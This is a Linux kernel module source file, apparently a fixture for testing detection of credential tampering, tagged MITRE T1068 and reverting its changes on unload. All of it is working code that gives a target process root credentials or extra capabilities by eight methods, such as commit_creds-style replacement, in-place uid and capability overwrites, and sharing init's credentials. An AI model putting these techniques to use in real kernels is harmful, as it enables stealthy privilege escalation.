// SPDX-License-Identifier: GPL-2.0-only
/* Gives a process credentials that it did not come by honestly (T1068); undone at unload. */
#include "attack.h"

#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process");
static char *how = "root";
module_param(how, charp, 0444);
MODULE_PARM_DESC(how,
		 "root: new ones, as commit_creds(prepare_kernel_cred()) leaves them; ids, caps: "
		 "overwritten in place; init: those of the first task; share: those of "
		 "process 1; place: a copy where no credentials lie; count: one reference less; "
		 "grow: two capabilities more");

static struct task_struct *task;
static const struct cred *saved;
static struct cred contents;
static struct cred elsewhere;

static void point(const struct cred *cred)
{
	rcu_assign_pointer(task->real_cred, cred);
	rcu_assign_pointer(task->cred, cred);
}

static int change(struct cred *cred)
{
	struct task_struct *init = (struct task_struct *)attack_symbol("init_task"),
			   *one = pid_task(find_vpid(1), PIDTYPE_PID);
	struct cred *new;
	u64 capabilities;

	if (!init || !one)
		return -ENOENT;
	if (!strcmp(how, "root")) {
		new = prepare_kernel_cred(init);
		if (!new)
			return -ENOMEM;
		point(get_cred(new));
	} else if (!strcmp(how, "ids")) {
		cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
		cred->cap_permitted = cred->cap_effective = init->cred->cap_permitted;
	} else if (!strcmp(how, "caps")) {
		cred->cap_permitted = cred->cap_effective = init->cred->cap_permitted;
	} else if (!strcmp(how, "grow")) {
		/* Whole in itself: only who saw the process before knows that it could not. */
		memcpy(&capabilities, &cred->cap_permitted, sizeof(capabilities));
		capabilities |= 1ul << CAP_SYS_PTRACE | 1ul << CAP_SYS_MODULE;
		memcpy((void *)&cred->cap_permitted, &capabilities, sizeof(capabilities));
		memcpy((void *)&cred->cap_effective, &capabilities, sizeof(capabilities));
	} else if (!strcmp(how, "init")) {
		point(init->cred);
	} else if (!strcmp(how, "share")) {
		point(one->cred);
	} else if (!strcmp(how, "place")) {
		elsewhere = *cred;
		point(&elsewhere);
	} else if (!strcmp(how, "count")) {
		put_cred(cred);
	} else {
		return -EINVAL;
	}
	return 0;
}

static int __init attack_init(void)
{
	int error;

	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	saved = get_task_cred(task);
	contents = *saved;
	if (!strcmp(how, "count"))
		put_cred(saved); /* our own reference must not stand in for the one that goes */
	error = change((struct cred *)saved);
	if (error) {
		put_task_struct(task);
		return error;
	}
	attack_log("pid=%d how=%s task=0x%lx value=0x%lx original=0x%lx", pid, how,
		   (unsigned long)task, (unsigned long)task->cred, (unsigned long)saved);
	return 0;
}

static void __exit attack_exit(void)
{
	struct cred *cred = (struct cred *)saved;

	if (!strcmp(how, "count")) {
		get_cred(cred);
	} else {
		if (task->cred == cred) {
			cred->uid = contents.uid;
			cred->euid = contents.euid;
			cred->suid = contents.suid;
			cred->fsuid = contents.fsuid;
			cred->cap_permitted = contents.cap_permitted;
			cred->cap_effective = contents.cap_effective;
		}
		point(cred); /* new ones are left behind: a test's leak */
		put_cred(saved);
	}
	put_task_struct(task);
	attack_log("restored pid=%d", pid);
}

module_init(attack_init);
module_exit(attack_exit);
